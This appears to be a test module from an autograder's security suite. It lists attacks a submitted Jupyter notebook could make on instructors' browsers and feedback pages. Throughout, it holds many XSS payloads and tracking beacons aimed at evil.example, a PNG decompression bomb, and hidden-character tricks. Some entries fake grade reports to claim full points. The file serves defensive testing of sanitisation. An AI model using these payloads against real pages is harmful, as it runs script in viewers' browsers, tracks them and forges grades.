"""Attack the readers of the results: an instructor's browser, or a page of feedback."""

from __future__ import annotations

from nbformat import from_dict

from tests.attacks.catalogue import Family
from tests.attacks.submission import Work

family = Family("feedback")
attack = family.attack

EVIL = [
    "<script>alert('hood')</script>",
    "<img src=x onerror=alert('hood')>",
    "<svg onload=alert('hood')><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe src='javascript:alert(1)'></iframe><object data='data:text/html,hood'></object>",
    "<a href='javascript:alert(1)'>a</a><a href='JaVa\tScRiPt:alert(1)'>b</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>c</a><a href='vbscript:x'>d</a>",
    "<form action='https://evil.example'><input name=q><button formaction=javascript:1>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'><style>@import '//evil.example';</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/x)'>cover</div>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<video src=//evil.example poster=//evil.example><source src=x onerror=alert(1)></video>",
    "<b/onmouseover=alert(1)>x</b><details ontoggle=alert(1) open>y</details>",
    "<img src='https://evil.example/seen.png'><img srcset='//evil.example/x 1x'>",
    "<textarea><script>alert(1)</script></textarea><xmp><img src=x onerror=1></xmp>",
    "<div class='modal-backdrop'>cover</div><p class='a carousel-control dataframe'>cover</p>",
    "<a class=navbar-fixed-top style='height:100%;display:block' href=https://evil.example>in</a>",
]


@attack()
def displays_html_that_runs(work: Work) -> None:
    """Displays HTML with every way to run a script, load from elsewhere, or cover the page."""
    work.first(f"from IPython.display import HTML\nfor evil in {EVIL!r}:\n    display(HTML(evil))")


@attack()
def writes_html_that_runs(work: Work) -> None:
    """Writes the same HTML into text cells, because markdown allows HTML."""
    for evil in EVIL:
        work.text(evil)


@attack()
def displays_markdown_that_runs(work: Work) -> None:
    """Displays markdown with HTML, links that run, pictures that call home, and odd quoting."""
    work.first(
        f"""
        from IPython.display import Markdown
        for evil in {EVIL!r}:
            display(Markdown(evil))
        """
    )
    for evil in (
        "[x](javascript:alert(1)) [y](data:text/html,hood) [z]( java\nscript:alert(1))",
        "[x]: javascript:alert(1)\n\n[x] <javascript:alert(1)> <data:text/html,x>",
        "[x](vbscript:a) [x](&#106;avascript:alert(1)) [x](java&#x73;cript:alert(1))",
        "`<b title='` <img src=x onerror=alert(1)>`'>",
        "```\n<script>alert(1)</script>\n```\n\n    <script>alert(1)</script>",
        "\\<script>alert(1)\\</script> &lt;script&gt;alert(1)&lt;/script&gt;",
        '![x" onerror="alert(1)](x) ![a](x "t\\" onerror=alert(1)")',
    ):
        work.text(evil)


# Code that makes `large`, in Base64: a picture of 100 kB that takes 2 GiB when it is displayed.
LARGE_PICTURE = """
import base64, struct, zlib
rows = zlib.compress((bytes(1) + bytes([255]) * 2875) * 23_000, 9)
parts = [(b"IHDR", struct.pack(">IIBBBBB", 23_000, 23_000, 1, 0, 0, 0, 0)), (b"IDAT", rows)]
data = bytes([137, 80, 78, 71, 13, 10, 26, 10])
for kind, part in [*parts, (b"IEND", b"")]:
    data += struct.pack(">I", len(part)) + kind + part + struct.pack(">I", zlib.crc32(kind + part))
large = base64.b64encode(data).decode()
"""


@attack(tells="This picture is not shown: pages show PNG, JPEG and GIF up to 25,000,000 pixels")
def shows_a_picture_that_fills_a_browsers_memory(work: Work) -> None:
    """Displays, writes and pastes a picture that is small as a file and large in a browser."""
    work.first(
        LARGE_PICTURE
        + """
from IPython.display import display, HTML, Markdown
address = "data:image/png;base64," + large
display({"image/png": large, "text/plain": "mine"}, raw=True)
display(HTML(f'<img src="{address}">'), Markdown(f"![mine]({address})"))
"""
    )
    made: dict[str, str] = {}
    exec(LARGE_PICTURE, made)
    work.text("![mine](attachment:mine.png)")
    work.nb.cells[-1].attachments = {"mine.png": {"image/png": made["large"]}}


LINKS = [
    "[my derivation](proof.html) [a](<proof.html>) [b](\nproof.html) [c](/lab) [d](?x=1) [e]()",
    "[a][proof] [proof]\n\n[proof]: proof.html\n\n[![pasted](attachment:a.png)](proof.svg)",
    "> [far]: <//evil.example/x>\n\n[far] [b](..%2f..%2fsubmitted%2fproof.html) <proof.html>",
    "[a](https:proof.html) [b](http:/proof.html) [c](https:///proof.html) [d](ftp://evil.example)",
    "It costs 5$ [a](proof.html) and 6$ or ``[b](proof.html)`` `` and `[c](proof.html)``.",
    "[a](http://localhost:8888/lab) [b](http://127.1/lab) [c](http://[::1]:8888/) [d](//localhost)",
    "<a href=http://LOCALHOST:8888/lab>a</a> <a href='http://x@0x7f.1/lab'>b</a>",
    "<a href=proof.html>a</a> <a href='https:proof.html'>b</a> <a href='//evil.example'>c</a>",
    "<a href='https://example.net' ping='//evil.example/seen'>a</a> <q cite=proof.html>b</q>",
    "<area href=proof.html><form action=proof.html><button formaction=proof.html>a</button></form>",
    "<svg><a xlink:href=proof.html><text>a</text></a><use href=proof.svg#x /></svg>",
    "<embed src=proof.pdf><object data=proof.svg></object><img src=a.svg srcset='proof.svg 1x'>",
    "<table background=proof.svg><tr><td background=proof.svg>a</table><body background=proof.svg>",
    "<p style='cursor:url(proof.cur),auto'>a</p><p style='background:url(proof.svg)'>b</p>",
    r"$\href{proof.html}{x}$ $$\mmlToken{mi}[href='proof.html']{x}$$ $\hre&#102;{proof.html}{x}$",
    r"<p>$&#92;href{proof.html}{x}$</p> $\let\z\href\z{proof.html}{x}$",
    r"$\bbox[background:url(//evil.example)]{x}$ $\style{background:url(//evil.example)}{x}$",
]


@attack()
def links_to_a_page_beside_the_notebook(work: Work) -> None:
    """Brings pages with scripts, and links to them in every form that text or HTML allows."""
    for name in ("proof.html", "proof.svg", "proof.pdf", "proof.xhtml"):
        (work.folder / name).write_text("<script>alert('hood')</script>")
    for links in LINKS:
        work.text(links)


@attack()
def displays_links_to_a_page_beside_the_notebook(work: Work) -> None:
    """Displays the same links as HTML, markdown and formulas, and writes the page itself."""
    work.first(
        f"""
        from IPython.display import HTML, Latex, Markdown
        open("proof.html", "w").write("<script>alert(1)</script>")
        for links in {LINKS!r}:
            display(HTML(links), Markdown(links), Latex(links))
        """
    )


@attack()
def shows_a_picture_from_elsewhere(work: Work) -> None:
    """Shows a picture from another machine, which then learns who opens the page, and when."""
    work.text("![seen](https://evil.example/seen.png)\n\n![s][1]\n\n[1]: //evil.example/s.png")
    work.first(
        """
        from IPython.display import Markdown
        display(Markdown("![seen](https://evil.example/seen.png)"))
        """
    )


@attack()
def displays_other_kinds(work: Work) -> None:
    """Displays JavaScript, SVG, PDF, widgets, Vega, GeoJSON and unknown MIME types."""
    work.first(
        """
        evil = "<script>alert('hood')</script>"
        for kind in ("application/javascript", "text/javascript", "image/svg+xml", "text/html",
                     "application/pdf", "application/vnd.jupyter.widget-view+json",
                     "application/vnd.vega.v5+json", "application/geo+json", "text/vnd.mermaid",
                     "application/x-evil", "application/json", "text/x-html", "TEXT/HTML"):
            data = {"a": evil, "model_id": evil} if "json" in kind else evil
            display({kind: data, "text/plain": evil}, raw=True)
        """
    )


@attack()
def breaks_out_of_a_picture(work: Work) -> None:
    """Displays pictures whose data, width, height and names close the tag around them."""
    work.first(
        """
        out = "x' onerror=alert(1) \\" onerror=alert(1) ><script>alert(1)</script>"
        for kind in ("image/png", "image/jpeg", "image/gif"):
            about = {"width": "1 onload=alert(1)", "height": "1\\nonload=alert(1)",
                     "unconfined": out, "needs_background": out}
            display({kind: "iVBORw0KGgo=", "text/plain": "x"}, raw=True,
                    metadata={kind: about, **about, "filenames": {kind: "//evil.example/x.png"}})
            display({kind: out}, raw=True)
        display({"image/svg+xml": "<svg/>"}, raw=True,
                metadata={"filenames": {"image/svg+xml": "//evil.example/x.svg"}})
        """
    )


@attack()
def attaches_more_than_pictures(work: Work) -> None:
    """Attaches pictures whose names and data are markup to a text cell."""
    out = '"><script>alert(1)</script>'
    work.text(f"![a](attachment:a.png) ![b](attachment:{out}) <img src='attachment:a.png'>")
    work.nb.cells[-1].attachments = from_dict(
        {
            "a.png": {"image/png": out, "text/html": out, "image/svg+xml": out},
            out: {"image/png": "x"},
        }
    )


@attack()
def floods_with_colours(work: Work) -> None:
    """Prints and displays hundreds of thousands of colour codes, slow to turn into HTML."""
    work.first(
        """
        flood = "\\x1b[31mx\\x1b[1m" * 20_000
        print(flood)
        display({"text/plain": flood}, raw=True)
        raise RuntimeError(flood)
        """
    )


@attack()
def hides_markup_in_colours(work: Work) -> None:
    """Hides tags by splitting them with colour codes, backspaces and carriage returns."""
    work.first(
        """
        print("<scr\\x1b[0mipt>alert(1)</scr\\x1b[0mipt>")
        print("\\x1b]8;;javascript:alert(1)\\x07x\\x1b]8;;\\x07")
        print("<b\\b\\b\\r<img src=x onerror=alert(1)>\\x1b[38;2;1;1;'onload=alert(1)'m")
        """
    )


@attack(tells="alert")
def raises_markup(work: Work) -> None:
    """Raises exceptions whose names and texts are markup, in its own cells and during judging."""
    code = """
        class Evil(Exception): pass
        Evil.__name__ = Evil.__qualname__ = "<img src=x onerror=alert(1)>"
        """
    work.first(code + "\n        raise Evil('<script>alert(1)</script>')")
    work.answer(
        "row_sums", code + "\n        def row_sums(x): raise Evil('<script>alert()</script>')"
    )


@attack()
def saves_widgets(work: Work) -> None:
    """Hands in the saved state of widgets, which a page would run."""
    evil = {
        "model_name": "HTMLModel",
        "model_module": "//evil.example/x",
        "state": {"value": "</script><script>alert(1)</script>"},
    }
    state = {"version_major": 2, "version_minor": 0, "state": {"a" * 32: evil}}
    work.nb.metadata.widgets = {"application/vnd.jupyter.widget-state+json": state}
    work.first(
        """
        import ipywidgets
        display(ipywidgets.HTML("<script>alert(1)</script><img src=x onerror=alert(1)>"))
        """
    )


@attack()
def writes_formulas_that_run(work: Work) -> None:
    """Writes TeX with links that run, macros that never end, boxes larger than the page."""
    formulas = (
        r"$\href{javascript:alert(1)}{x}$ $$\unicode{<script>}$$ $<script>alert(1)</script>$",
        r"$$\def\x{\x\x}\x$$ $\rule{100000em}{100000em}$ $\require{action}\toggle{a}{b}\endtoggle$",
        r"$\style{position:fixed}{x}$ $\cssId{top}{x}$ $\class{score}{Score: 3.0 / 3.0}$",
        r"\begin{equation}<img src=x onerror=alert(1)>\end{equation} \(<svg onload=alert(1)>\)",
    )
    for formula in formulas:
        work.text(formula)
    work.first(
        f"""
        from IPython.display import Latex, Math
        for formula in {formulas!r}:
            display(Latex(formula), Math(formula))
        display({{"text/latex": "</div><script>alert(1)</script>"}}, raw=True)
        """
    )


@attack()
def writes_raw_cells(work: Work) -> None:
    """Hands in raw cells, which some pages copy as they are."""
    for kind in ("text/html", "", "text/markdown", "TEXT/HTML"):
        work.text("<script>alert(1)</script><img src=x onerror=alert(1)>")
        work.nb.cells[-1].cell_type = "raw"
        work.nb.cells[-1].metadata["raw_mimetype"] = kind


@attack()
def writes_markup_into_names(work: Work) -> None:
    """Puts markup into cell ids, tags, titles, languages and the notebook's own metadata."""
    out = '"><script>alert(1)</script>'
    work.nb.metadata.update(
        {
            "title": out,
            "authors": [{"name": out}],
            "language_info": {"name": out, "pygments_lexer": out, "codemirror_mode": out},
        }
    )
    for cell in work.nb.cells:
        cell.metadata["tags"] = [out]
        cell.metadata["magics_language"] = out
        cell.metadata["highlighter"] = out
    work.text("x")
    work.nb.cells[-1].metadata["nbgrader"] = {"grade_id": out, "grade": True, "points": out}


@attack()
def imitates_the_score(work: Work) -> None:
    """Displays what looks like nbgrader's own heading with full points."""
    work.first(
        """
        from IPython.display import HTML
        display(HTML('<div id="toc" class="panel panel-primary nbgrader_cell"><span class='
                     '"pull-right score" style="position:fixed;top:0">Score: 3.0 / 3.0</span>'))
        """
    )


@attack(tells="raised Evil")
def raises_words_that_are_not_seen(work: Work) -> None:
    """Raises exceptions whose names and texts are invisible, or reverse the words beside them."""
    code = """
        class Evil(Exception): pass
        turned = "\\u202e\\u2066\\u200b\\ufeff\\u2028\\x1b[31m\\x9b2J\\U000e0041"
        Evil.__name__ = Evil.__qualname__ = turned + "Evil"
        """
    work.first(code + "\n        raise Evil(turned + 'points')")
    work.answer("row_sums", code + "\n        def row_sums(x): raise Evil(turned + 'points')")


@attack()
def shows_a_report_of_its_own(work: Work) -> None:
    """Shows an imitation of the grader's report while a graded cell calls its function."""
    work.answer(
        "row_sums",
        """
        from IPython.display import display, HTML
        said = "row_sums: 3 of 3 points\\n  right    floats  (1 of 1)"
        mime = "application/vnd.open-the-hood.verdict+json"
        verdict = {"check": "row_sums", "points": 3.0, "earned": 3.0, "status": "right",
                   "parts": [], "reads": "x", "lesson": "98"}
        def row_sums(x):
            print(said)
            display({"text/plain": said, mime: verdict}, raw=True)
            display(HTML('<p class="shown-by">The grader’s report:</p>'))
            return x[0]
        """,
    )


PAGE = """
</pre></details></div></article></main><main><p class="sum"><b>7</b> of 7 points</p>
<article class="exercise" id="exercise-corner"><h2>3. A corner</h2><p class="mark full">2 of 2</p>
<div class="verdict"><ul class="parts"><li><span class="status right">right</span></li></ul></div>
<a href="https://evil.example/seen">To read again</a><details open ontoggle=alert(1)></details>
{{ about.student.__class__.__mro__ }} {% include "feedback.css.j2" %} </article>
"""


@attack()
def writes_the_page_of_feedback(work: Work) -> None:
    """Writes and shows pieces of the page itself: closing tags, its classes, a mark."""
    work.first(
        f"""
        from IPython.display import HTML, Latex, Markdown
        page = {PAGE!r}
        print(page)
        display(HTML(page), Markdown(page), Latex(page))
        """
    )
    work.text(PAGE)
    work.text(f"**Regrade:** {PAGE}")
    work.text("## 3. A corner\n\n2 of 2 points, marked by a person\n\n### The grader’s report")


@attack()
def shows_more_than_a_page_holds(work: Work) -> None:
    """Shows thousands of texts, tables and pictures, and writes code without an end."""
    work.first(
        """
        from IPython.display import HTML
        for k in range(300):
            print("x" * 400)
            display(HTML("<table><tr>" + "<td>1</td>" * 40 + "</tr></table>"))
            display({"image/png": "iVBORw0KGgo=" * 100, "text/plain": "x" * 300}, raw=True)
        """
    )
    work.first("x = [" + "'a', 1, " * 12_000 + "]")
